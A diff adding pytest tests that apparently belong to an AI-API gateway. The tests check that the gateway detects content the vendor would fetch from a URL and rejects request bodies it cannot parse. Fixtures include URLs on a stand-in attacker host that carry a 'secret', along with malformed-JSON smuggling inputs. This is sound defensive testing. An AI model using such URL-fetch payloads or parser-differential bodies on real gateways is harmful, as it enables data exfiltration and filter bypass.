@@ -184,3 +184,52 @@ def _retrying_send(served: Gateway) -> int:
             return status
         time.sleep(0.05)
     return 503
+
+
+@pytest.mark.parametrize("vendor, body", [
+    ("anthropic", {"messages": [{"role": "user", "content": [
+        {"type": "image", "source": {"type": "url", "url": "https://attacker.example/?d=secret"}}]}]}),
+    ("anthropic", {"messages": [{"role": "user", "content": [
+        {"type": "document", "source": {"type": "url", "url": "http://attacker.example/doc.pdf"}}]}]}),
+    ("openai", {"input": [{"role": "user", "content": [
+        {"type": "input_image", "image_url": "https://attacker.example/i.png"}]}]}),
+    ("openai", {"input": [{"role": "user", "content": [
+        {"type": "input_file", "file_url": "https://attacker.example/f.pdf"}]}]}),
+    ("google", {"contents": [{"role": "user", "parts": [{"fileData": {"fileUri": "https://attacker.example/v"}}]}]}),
+])
+def test_content_the_api_would_fetch_from_a_url_is_a_vendor_side_fetch(vendor, body):
+    assert vendor_side_tools(vendor, body) == (f"a {vendor} URL source",)
+
+
+@pytest.mark.parametrize("vendor, body", [
+    ("anthropic", {"messages": [{"role": "user", "content": [
+        {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBOR"}}]},
+        {"role": "assistant", "content": [{"type": "tool_use", "name": "WebFetch",
+                                           "input": {"url": "https://example.com"}}]}]}),
+    ("openai", {"input": [{"role": "user", "content": [
+        {"type": "input_image", "image_url": "data:image/png;base64,iVBOR"}]}]}),
+    ("google", {"contents": [{"role": "user", "parts": [
+        {"fileData": {"fileUri": "https://generativelanguage.googleapis.com/v1beta/files/abc"}}, {"text": "hi"}]}]}),
+])
+def test_inline_or_uploaded_content_and_a_client_tool_s_url_fetch_nothing(vendor, body):
+    assert vendor_side_tools(vendor, body) == ()
+
+
+@pytest.mark.parametrize("raw", [
+    json.dumps(body("anthropic", tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]))[:-1] + ', "x": "\udcff"}',
+    '{"model": "claude-sonnet-4-5", "max_tokens": 10, "messages": [], "deep": ' + "[" * 1200 + "]" * 1200 + "}",
+    '["not", "an", "object"]',
+])
+def test_a_body_the_gateway_cannot_read_is_not_passed_on(tmp_path, raw):
+    """Another parser may read it (invalid UTF-8 replaced, deeper nesting): unchecked, it must not go."""
+    data = raw.encode("utf-8", "surrogateescape")
+    with ModelServer(TEXT, "/ws", api_key=REAL_KEY) as model:
+        with gateway(model, tmp_path, "anthropic") as served:
+            connection = UnixConnection(served.socket_path)
+            connection.request("POST", PATHS["anthropic"], body=data,
+                               headers={"content-type": "application/json", **KEYS["anthropic"]})
+            response = connection.getresponse()
+            answer = json.loads(response.read())
+
+    assert response.status == 400 and model.request_count() == 0
+    assert "not a JSON object the gateway can read" in message(answer)
